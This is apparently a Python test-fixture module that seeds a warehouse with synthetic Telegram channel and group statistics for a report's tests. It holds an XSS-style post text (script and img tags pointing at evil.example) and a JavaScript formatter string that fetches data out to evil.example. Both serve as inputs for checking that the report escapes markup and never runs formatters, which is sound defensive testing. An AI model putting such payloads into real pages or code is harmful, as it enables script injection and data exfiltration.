"""Warehouse rows of a channel or a supergroup, for the report's tests and bench."""

from __future__ import annotations

from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import sqlalchemy as sa

from tgstats_dagster.warehouse.tables import TABLES

FETCHED = datetime(2026, 11, 2, 9, 30, tzinfo=timezone.utc)
FIRST_DAY = date(2025, 10, 1)

#: The channel's daily metrics; every one belongs to exactly one chart.
CHANNEL_METRICS = (
    "growth.total_followers",
    "followers.joined",
    "followers.left",
    "interactions.views",
    "interactions.shares",
    "views_by_source.url",
    "views_by_source.search",
    "new_followers_by_source.url",
    "new_followers_by_source.channels",
    "languages.english",
    "languages.português",
    "mute.muted",
    "mute.unmuted",
    "reactions_by_emotion.👍",
    "reactions_by_emotion.❤",
)
REVENUE_METRICS = ("revenue_stars.revenue", "revenue_ton.revenue")
GROUP_METRICS = (
    "growth.total_members",
    "members.joined",
    "members.left",
    "messages.messages",
    "actions.deleted_messages",
    "actions.banned_users",
    "new_members_by_source.invite_links",
    "languages.english",
)
#: A post's text that must reach the page as text, never as markup or math.
HOSTILE_TEXT = '<script>alert("x")</script> & <img src="https://evil.example/a.png"> $x^2$'
#: Telegram's formatter strings are JavaScript: the report never evaluates or shows them.
FORMATTER = "function(x){ fetch('https://evil.example/'+x) }"


def peer(
    engine: sa.Engine, channel_id: int, kind: str = "broadcast", can_view_stats: bool = True
) -> None:
    _insert(
        engine,
        "telegram_peers",
        [
            {
                "channel_id": channel_id,
                "peer_key": f"peer{channel_id}",
                "access_hash": channel_id * 7,
                "title": f"Channel <{channel_id}> & co",
                "username": f"peer{channel_id}",
                "kind": kind,
                "can_view_stats": can_view_stats,
                "stats_dc": 2,
                "participants_count": 100,
                "updated_at": FETCHED,
            }
        ],
    )


def daily(engine: sa.Engine, channel_id: int, metrics: tuple[str, ...], days: int) -> None:
    """Every metric on every day; a fraction on some days, and one day left out per metric."""
    rows = [
        {
            "channel_id": channel_id,
            "day": FIRST_DAY + timedelta(days=d),
            "metric": metric,
            "peer_key": f"peer{channel_id}",
            "value": Decimal(m * 1000 + d) + (Decimal("0.25") if d % 7 == 3 else 0),
            "fetched_at": FETCHED,
        }
        for m, metric in enumerate(metrics)
        for d in range(days)
        if d != (m * 11) % days
    ]
    _insert(engine, "channel_daily", rows)


def top_hours(engine: sa.Engine, channel_id: int) -> dict[str, Any]:
    """Two snapshots' ``top_hours_graph``; the newest is returned."""
    older = {"columns": [["x", *range(24)], ["y0", *([1] * 24)]], "names": {"y0": "Online"}}
    newest = {
        "columns": [["x", *range(24)], ["y0", *(h * 3 for h in range(24))]],
        "names": {"y0": "Online"},
        "types": {"x": "x", "y0": "line"},
        "yTickFormatter": FORMATTER,
    }
    _insert(
        engine,
        "stats_raw",
        [
            {
                "channel_id": channel_id,
                "graph": "top_hours_graph",
                "fetched_at": at,
                "kind": "inline",
                "data": data,
            }
            for at, data in ((FETCHED - timedelta(days=30), older), (FETCHED, newest))
        ],
    )
    return newest


def hourly(engine: sa.Engine, channel_id: int, days: int = 3) -> list[dict[str, Any]]:
    start = datetime(2026, 10, 20, tzinfo=timezone.utc)
    rows = [
        {
            "channel_id": channel_id,
            "hour": start + timedelta(hours=h),
            "metric": metric,
            "value": Decimal(h % 24 * 10 + h // 24) + offset,
            "fetched_at": FETCHED,
        }
        for h in range(24 * days)
        for metric, offset in (("interactions.views", 0), ("growth.total_followers", 5000))
    ]
    _insert(engine, "channel_hourly", rows)
    return rows


def posts(engine: sa.Engine, channel_id: int, count: int = 14) -> list[dict[str, Any]]:
    rows = [
        {
            "channel_id": channel_id,
            "kind": "story" if i % 5 == 4 else "message",
            "post_id": 100 + i,
            "published_at": FETCHED - timedelta(days=count - i),
            "views": 1000 + (i * 37) % 500,
            "forwards": i,
            "replies": 0,
            "reactions": i * 2,
            "text": HOSTILE_TEXT if i == count - 1 else f"post number {i}",  # the most viewed
            "fetched_at": FETCHED,
        }
        for i in range(count)
    ]
    _insert(engine, "posts", rows)
    timeline = [
        {
            "channel_id": channel_id,
            "kind": p["kind"],
            "post_id": p["post_id"],
            "ts": p["published_at"] + timedelta(hours=h),
            "metric": metric,
            "value": h * 10 + p["post_id"],
            "fetched_at": FETCHED,
        }
        for p in rows
        for h in range(6)
        for metric in ("views.views", "views.shares", "reactions_by_emotion.👍")
    ]
    _insert(engine, "post_timeline", timeline)
    return rows


def forwards(engine: sa.Engine, channel_id: int) -> list[dict[str, Any]]:
    rows = [
        {
            "channel_id": channel_id,
            "kind": "message",
            "post_id": 100 + i % 3,
            "source_channel_id": 9000 + i % 4,
            "source_message_id": i,
            "forwarded_at": FETCHED - timedelta(hours=i),
            "views": None if i == 0 else 10 * i,
            "title": f"Forwarder {i % 4} <b>",
            "username": None if i % 4 == 0 else f"fwd{i % 4}",
            "fetched_at": FETCHED,
        }
        for i in range(10)
    ]
    _insert(engine, "post_forwards", rows)
    return rows


def revenue_status(engine: sa.Engine, channel_id: int) -> None:
    _insert(
        engine,
        "revenue_status",
        [
            {
                "channel_id": channel_id,
                "fetched_at": at,
                "currency": currency,
                "current_balance": balance,
                "available_balance": balance,
                "overall_revenue": balance * 3,
                "usd_rate": Decimal("0.013"),
                "withdrawal_enabled": True,
            }
            for at, balance in ((FETCHED - timedelta(days=1), 1), (FETCHED, 42))
            for currency in ("stars", "ton")
        ],
    )


def tops(engine: sa.Engine, channel_id: int) -> None:
    """Two snapshots of top posters: the older one has other members."""
    rows = [
        {
            "channel_id": channel_id,
            "fetched_at": at,
            "top": "posters",
            "user_id": base + rank,
            "rank": rank,
            "messages": 500 - rank * 10,
            "avg_chars": 40 + rank,
            "first_name": f"Member {rank}",
            "last_name": None,
            "username": f"m{rank}" if rank % 2 else None,
        }
        for at, base in ((FETCHED - timedelta(days=1), 1000), (FETCHED, 2000))
        for rank in range(1, 6)
    ]
    _insert(engine, "megagroup_tops", rows)


def full_channel(engine: sa.Engine, channel_id: int, days: int) -> None:
    """A channel with every chart's data."""
    peer(engine, channel_id)
    daily(engine, channel_id, CHANNEL_METRICS + REVENUE_METRICS, days)
    top_hours(engine, channel_id)
    hourly(engine, channel_id)
    posts(engine, channel_id)
    forwards(engine, channel_id)
    revenue_status(engine, channel_id)


def _insert(engine: sa.Engine, table: str, rows: list[dict[str, Any]]) -> None:
    with engine.begin() as connection:
        connection.execute(sa.insert(TABLES[table]), rows)
